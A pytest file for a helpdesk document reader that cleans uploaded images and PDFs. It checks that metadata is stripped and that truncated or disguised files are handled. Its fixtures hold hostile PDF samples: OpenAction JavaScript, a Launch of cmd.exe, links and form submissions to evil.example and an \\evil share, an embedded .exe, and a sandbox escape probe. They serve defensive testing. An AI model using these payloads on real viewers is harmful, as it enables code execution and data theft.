"""Files as viewers take them: with what other programs leave in them, cut short, long, and from an iPhone.

What a PDF may not bring to a desk, and what the process that opens files may not do.
"""

from __future__ import annotations

import io
import os
import socket
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from helpdesk.documents import reader
from helpdesk.documents.errors import FileBroken, FileIncomplete, FileTooComplex, PdfHasNoPages
from helpdesk.documents.kinds import kind_of
from helpdesk.documents.reader import ENVIRONMENT, ROOT, Document
from tests.documents import encoded, page, pdf, plain_pdf, screenshot, with_chunks

PHOTO = Path(__file__).parents[2] / "photo.heic"


def read(data: bytes) -> Document:
    return reader.read(data, kind_of(data))


def picture_of(data: bytes) -> Image.Image:
    return Image.open(io.BytesIO(read(data).content))


# Pictures


LONG_TEXT = b"Description\0\0" + zlib.compress(b"goruntu duzenleyici gunlugu " * 75_000)
LONG_PROFILE = b"Ekran\0\0" + zlib.compress(os.urandom(100) + b"\0" * 1_500_000)
CHUNKS = {
    "packed text": (b"zTXt", LONG_TEXT),
    "plain text": (b"tEXt", b"Comment\0" + b"x" * 2_000_000),
    "XMP": (b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(b"<x/>" * 500_000)),
    "a colour profile": (b"iCCP", LONG_PROFILE),
    "a text that does not unpack": (b"zTXt", b"Description\0\0nonsense"),
    "one that nobody knows": (b"vpAg", b"x" * 10),
}


@pytest.mark.parametrize("after", [b"IHDR", b"IDAT"])
@pytest.mark.parametrize("chunk", CHUNKS)
def test_a_picture_is_taken_without_what_is_written_around_it(chunk: str, after: bytes) -> None:
    data = with_chunks(screenshot(), CHUNKS[chunk], after=after)
    kept = read(data).content
    assert list(Image.open(io.BytesIO(kept)).getdata()) == list(Image.open(io.BytesIO(screenshot())).getdata())
    assert CHUNKS[chunk][0] not in kept


def test_an_animation_of_one_frame_is_a_picture() -> None:
    frame = struct.pack(">IIIIIHHBB", 0, 640, 480, 0, 0, 0, 100, 0, 0)
    data = with_chunks(screenshot(), (b"acTL", struct.pack(">II", 1, 0)), (b"fcTL", frame))
    assert picture_of(data).size == (640, 480)


@pytest.mark.parametrize("options", [{}, {"progressive": True}, {"subsampling": 0}])
@pytest.mark.parametrize("missing", [1, 2, 20])
def test_a_jpeg_without_its_last_bytes_is_taken(options: dict[str, int], missing: int) -> None:
    whole = encoded(page(1240, 1754).convert("RGB"), "JPEG", **options)
    assert picture_of(whole[:-missing]).size == (1240, 1754)


def test_a_jpeg_whose_last_bytes_are_empty_is_taken() -> None:
    assert picture_of(encoded(page(640, 480, 18), "JPEG")[:-2] + b"\0\0").size == (640, 480)


@pytest.mark.parametrize("mode", ["L", "RGB", "CMYK"])
@pytest.mark.parametrize(
    ("progressive", "share"), [(False, 0.3), (False, 0.66), (False, 0.9), (True, 0.1), (True, 0.4)]
)
def test_a_jpeg_that_lacks_much_arrived_incomplete(mode: str, progressive: bool, share: float) -> None:
    whole = encoded(page(640, 900, 18).convert(mode), "JPEG", progressive=progressive, quality=85)
    with pytest.raises(FileIncomplete):
        read(whole[: int(len(whole) * share)])


def exif(*entries: tuple[int, int, int, int], behind: bytes = b"") -> bytes:
    """A block of little-endian entries (tag, type, count, value), and what its offsets point to."""
    return (
        b"II*\0\x08\0\0\0"
        + struct.pack("<H", len(entries))
        + b"".join(struct.pack("<HHII", *entry) for entry in entries)
        + bytes(4)
        + behind
    )


TURNED, AS_IT_IS = (0x0112, 3, 1, 6), (0x0112, 3, 1, 0)
NOWHERE = struct.pack("<HHHIII", 1, 2, 5, 3, 56, 0) + bytes(24)  # a latitude of 0/0, three times
BROKEN_EXIF = {
    "a place of 0/0": (exif(TURNED, (0x8825, 4, 1, 38), behind=NOWHERE), True),
    "its header twice": (b"Exif\0\0" + exif(TURNED), True),
    "a value beyond the block": (exif(TURNED, (0x010F, 2, 4000, 60_000)), True),
    "an orientation that does not exist": (exif(AS_IT_IS), False),
    "nothing but a header": (b"II*\0", False),
    "an entry that is cut off": (exif(TURNED)[:15], False),
}


@pytest.mark.parametrize("fault", BROKEN_EXIF)
def test_a_photo_with_a_broken_exif_block_is_taken_and_turned_where_it_says_so(fault: str) -> None:
    block, is_turned = BROKEN_EXIF[fault]
    whole = encoded(page(1754, 1240).convert("RGB"), "JPEG")
    app1 = b"Exif\0\0" + block
    image = picture_of(whole[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + whole[2:])
    assert image.size == ((1240, 1754) if is_turned else (1754, 1240))
    assert not image.getexif()


@pytest.mark.parametrize("missing", [4, 12, 16, 30])
def test_a_png_without_its_last_bytes_is_taken(missing: int) -> None:
    assert picture_of(screenshot()[:-missing]).size == (640, 480)


@pytest.mark.parametrize(
    ("size", "kind", "kept"),
    [
        ((1080, 15_000), "PNG", (1080, 15_000)),
        ((1080, 9_000), "JPEG", (1080, 9_000)),
        ((9_000, 1080), "PNG", (9_000, 1080)),
        ((1080, 16_000), "WEBP", (1080, 16_000)),
        ((2_400, 12_000), "PNG", (2_000, 10_000)),
        ((4_500, 6_000), "JPEG", (3_000, 4_000)),
    ],
)
def test_a_long_picture_keeps_its_lines_readable(size: tuple[int, int], kind: str, kept: tuple[int, int]) -> None:
    picture = Image.new("L", size, 255)
    text = page(min(size), min(size), 28)
    for at in range(0, max(size), min(size)):
        picture.paste(text, (at, 0) if size[0] > size[1] else (0, at))
    assert picture_of(encoded(picture, kind)).size == kept


def test_a_photo_of_an_iphone_is_kept_as_jpeg_upright_and_without_its_data() -> None:
    document = read(PHOTO.read_bytes())
    picture = Image.open(io.BytesIO(document.content))
    assert (document.kind.name, picture.format, picture.size) == ("jpeg", "JPEG", (480, 640))
    assert b"Ayse" not in document.content


def test_an_avif_is_kept_as_jpeg() -> None:
    document = read(encoded(page(640, 480, 18), "AVIF"))
    assert (document.kind.name, Image.open(io.BytesIO(document.content)).size) == ("jpeg", (640, 480))


# PDFs that every viewer opens


AS_THEY_CAME = {
    "plain": plain_pdf(),
    "a line end more": plain_pdf() + b"\r\n" * 500,
    "padding": plain_pdf() + b"\0" * 6_000,
    "much padding": plain_pdf() + b" " * 300_000,
    "the end mark cut": plain_pdf()[:-3],
    "hardly an end mark": plain_pdf()[:-5],
    "no end mark": plain_pdf(b"\nstartxref\n%d"),
    "the end mark on the line of the offset": plain_pdf(b"\nstartxref %d%%%%EOF\n"),
    "a mark of the order of bytes": b"\xef\xbb\xbf" + plain_pdf(),
    "two ends": plain_pdf() + plain_pdf()[9:],
    "opens at its first page": plain_pdf(more="/OpenAction [3 0 R /Fit]"),
}


@pytest.mark.parametrize("case", AS_THEY_CAME)
def test_a_pdf_that_viewers_open_is_kept_as_it_came(case: str) -> None:
    document = read(AS_THEY_CAME[case])
    assert (document.content, document.pages) == (AS_THEY_CAME[case], 1)


ARCHIVE = io.BytesIO()
with zipfile.ZipFile(ARCHIVE, "w") as archive:
    archive.writestr("dekont.js", "alert(1)")
SURROUNDED = {
    "headers of a download before it": b"HTTP/1.1 200 OK\r\nServer: x\r\n\r\n" + plain_pdf(),
    "a page before it": b"<html><script>alert(1)</script></html>\n" + plain_pdf(),
    "a page in its first line": plain_pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4 <script>alert(1)</script>\n"),
    "a programme before it": b"MZ" + b"\0" * 100 + plain_pdf(),
    "a page behind it": plain_pdf() + b"<!-- " + b"a" * 5_000 + b" --><script>alert(1)</script>",
    "an archive behind it": plain_pdf() + ARCHIVE.getvalue(),
    "an archive before it": ARCHIVE.getvalue() + plain_pdf(),
    "an archive that ends with it": ARCHIVE.getvalue()[:-2] + b"\x40\x02" + plain_pdf(),
    "no table": plain_pdf(b""),
}


@pytest.mark.parametrize("case", SURROUNDED)
def test_a_pdf_with_something_around_it_is_written_anew(case: str) -> None:
    document = read(SURROUNDED[case])
    assert document.content.startswith(b"%PDF-")
    assert not any(mark in document.content for mark in (b"<script", b"PK\x03\x04", b"PK\x05\x06", b"MZ", b"HTTP/"))
    assert "DEKONT 1.250,00 TL" in PdfReader(io.BytesIO(document.content)).pages[0].extract_text()


# PDFs that do something


def action(kind: str, **more: object) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in more.items()}})


def linked(to: DictionaryObject) -> bytes:
    """A PDF with a place to press."""
    writer = PdfWriter(clone_from=io.BytesIO(plain_pdf()))
    link = {"/Subtype": NameObject("/Link"), "/Rect": ArrayObject([NumberObject(0)] * 4), "/A": to}
    place = writer._add_object(DictionaryObject({NameObject(key): value for key, value in link.items()}))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([place])
    return written(writer)


def carrying() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(plain_pdf()))
    writer.add_attachment("dekont.exe", b"MZ of a programme")
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


TEXT = TextStringObject
ACTIVE = {
    "a script at opening": plain_pdf(more="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "its name in disguise": plain_pdf(more="/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "a script by name": plain_pdf(more="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"),
    "a programme": plain_pdf(more="/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "an address at opening": plain_pdf(more="/OpenAction << /S /URI /URI (https://evil.example) >>"),
    "a share at opening": plain_pdf(more="/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>"),
    "something after printing": plain_pdf(more="/AA << /DP << /S /URI /URI (https://evil.example) >> >>"),
    "a form that is a programme": plain_pdf(more="/AcroForm << /Fields [] /XFA (x) >>"),
    "a file within": carrying(),
    "a link to a share": linked(action("/GoToR", F=TEXT("\\\\evil\\x"), D=ArrayObject())),
    "a link to a file": linked(action("/URI", URI=TEXT("file://evil/x"))),
    "a link that is a script": linked(action("/URI", URI=TEXT("javascript:alert(1)"))),
    "a link that sends a form": linked(action("/SubmitForm", F=TEXT("https://evil.example"))),
    "two actions, one after the other": linked(
        action("/GoTo", D=ArrayObject(), Next=action("/Launch", F=TEXT("cmd.exe")))
    ),
}


@pytest.mark.parametrize("case", ACTIVE)
def test_what_a_pdf_does_is_left_behind_and_its_pages_stay(case: str) -> None:
    document = read(ACTIVE[case])
    marks = (
        b"/JS",
        b"JavaScript",
        b"/Launch",
        b"evil",
        b"/AA",
        b"/XFA",
        b"EmbeddedFile",
        b"programme",
        b"file:",
        b"/S ",
    )
    assert not any(mark in document.content for mark in marks)
    assert document.pages == 1
    assert "DEKONT 1.250,00 TL" in PdfReader(io.BytesIO(document.content)).pages[0].extract_text()


def test_what_was_stamped_on_a_page_is_still_seen_when_it_is_written_anew() -> None:
    writer = PdfWriter(clone_from=io.BytesIO(ACTIVE["a script at opening"]))
    drawn = writer._add_object(PdfReader(io.BytesIO(plain_pdf())).pages[0]["/Contents"].clone(writer))
    stamp = {"/Subtype": NameObject("/Stamp"), "/Rect": ArrayObject([NumberObject(9)] * 4)}
    stamp["/AP"] = DictionaryObject({NameObject("/N"): drawn})
    stamp["/A"] = action("/JavaScript", JS=TEXT("app.alert(1)"))
    placed = writer._add_object(DictionaryObject({NameObject(key): value for key, value in stamp.items()}))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([placed])
    (kept,) = PdfReader(io.BytesIO(read(written(writer)).content)).pages[0]["/Annots"]  # type: ignore[misc]
    assert kept.get_object().keys() == {"/Subtype", "/Rect", "/AP"}


def test_a_link_to_a_website_is_no_reason_to_change_a_pdf() -> None:
    data = linked(action("/URI", URI=TEXT("https://bank.example/yardim")))
    assert read(data).content == data


def test_turned_pages_stay_turned() -> None:
    writer = PdfWriter(clone_from=io.BytesIO(ACTIVE["a script at opening"]))
    writer.pages[0].rotate(90)
    assert PdfReader(io.BytesIO(read(written(writer)).content)).pages[0].rotation == 90


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (plain_pdf()[:200], FileIncomplete),
        (plain_pdf() + b"9 0 obj << /Length 9 >> stream", FileIncomplete),
        (b"%PDF-1.4\nnothing\nstartxref\n9\n%%EOF", FileBroken),
        (pdf(0), PdfHasNoPages),
        (b"%PDF-1.4\n" + b"1 0 obj<<>>endobj\n" * 300_000, FileTooComplex),
    ],
)
def test_a_pdf_that_cannot_be_read_says_why(data: bytes, reason: type[Exception]) -> None:
    with pytest.raises(reason):
        read(data)


# The process that opens files


RIGHTS = """
import os, socket, sys
from helpdesk.documents import reader
from helpdesk.documents.kinds import TAKEN
reader._reader_of(TAKEN["png"])
reader._give_up_rights(TAKEN["png"])
tried = {
    "read": lambda: open("%(secret)s"),
    "write": lambda: open("%(secret)s", "w"),
    "connect": lambda: socket.create_connection(("127.0.0.1", %(port)d)),
    "read in place of its input": lambda: (os.close(0), os.open("%(secret)s", os.O_RDONLY)),
    "look around": lambda: os.listdir("%(folder)s"),
}
for name, act in tried.items():
    try:
        act()
    except OSError:
        continue
    sys.stdout.write(name + " ")
sys.stdout.write(os.getcwd() + " " + " ".join(os.environ))
"""


def test_the_reader_opens_no_file_and_no_connection(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("gizli")
    with socket.create_server(("127.0.0.1", 0)) as listening:
        asked = {"secret": secret, "folder": tmp_path, "port": listening.getsockname()[1]}
        command = [sys.executable, "-s", "-c", RIGHTS % asked]
        done = subprocess.run(command, input=b"", capture_output=True, cwd=ROOT, env=ENVIRONMENT, check=True)
    assert set(done.stdout.decode().split()) - {"LC_CTYPE"} == {"/", *ENVIRONMENT}
